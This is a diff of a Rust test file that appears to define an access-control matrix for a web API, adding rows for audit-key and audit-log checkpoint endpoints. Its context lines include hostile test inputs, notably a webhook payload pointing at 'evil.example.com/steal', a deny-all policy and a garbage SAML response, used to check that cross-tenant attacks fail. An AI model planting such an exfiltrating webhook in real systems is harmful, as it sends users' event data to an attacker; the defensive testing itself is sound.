@@ -114,7 +114,8 @@ const BULK_ATTACK: &str = concat!(
 );
 /// A draft that refuses every address: B's what-if lists whom it would block, which must be B's
 /// own users and addresses only.
-const WHAT_IF: &str = r#"{"policy":{"mode":"denylist","rules":[{"id":"all","cidr":"0.0.0.0/0"},{"id":"all6","cidr":"::/0"}]}}"#;
+const WHAT_IF: &str =
+    r#"{"policy":{"mode":"denylist","rules":[{"id":"all","cidr":"0.0.0.0/0"},{"id":"all6","cidr":"::/0"}]}}"#;
 const REDIRECT_HOOK: &str = r#"{"url":"https://evil.example.com/steal","enabled":true}"#;
 const ROTATE_NOW: &str = r#"{"overlapSeconds":0}"#;
 const REDELIVER_ALL: &str = r#"{"failedSince":"2026-01-01T00:00:00Z"}"#;
@@ -125,6 +126,7 @@ const GARBAGE_RESPONSE: &str = "SAMLResponse=PHNhbWxwOlJlc3BvbnNlLz4%3D&RelaySta
 const MATRIX: &[(&str, &str, &str, &[Check])] = &[
     ("GET", "/api/developers/openapi.json", NONE, &[Public]),
     ("GET", "/api/developers/events.json", NONE, &[Public]),
+    ("GET", "/api/developers/audit-keys.json", NONE, &[Public]),
     ("GET", "/api/developers/step-up-purposes.json", NONE, &[Public]),
     ("GET", "/account/security", NONE, &[Public]),
     ("GET", "/portal", NONE, &[Public]),
@@ -221,6 +223,8 @@ const MATRIX: &[(&str, &str, &str, &[Check])] = &[
     ("GET", "/api/settings/audit-log/export", NONE, &[OwnLedger(B::Pat), MemberOnAdmin]),
     ("GET", "/api/settings/audit-log/verify", NONE, &[OwnLedger(B::Pat), MemberOnAdmin]),
     ("GET", "/api/settings/audit-log/histogram", NONE, &[OwnLedger(B::Pat), MemberOnAdmin]),
+    ("POST", "/api/settings/audit-log/checkpoints", NONE, &[OwnLedger(B::Pat), MemberOnAdmin]),
+    ("GET", "/api/settings/audit-log/checkpoints", NONE, &[OwnLedger(B::Pat), MemberOnAdmin]),
 ];
 
 const USER_URN: &str = "urn:ietf:params:scim:schemas:core:2.0:User";
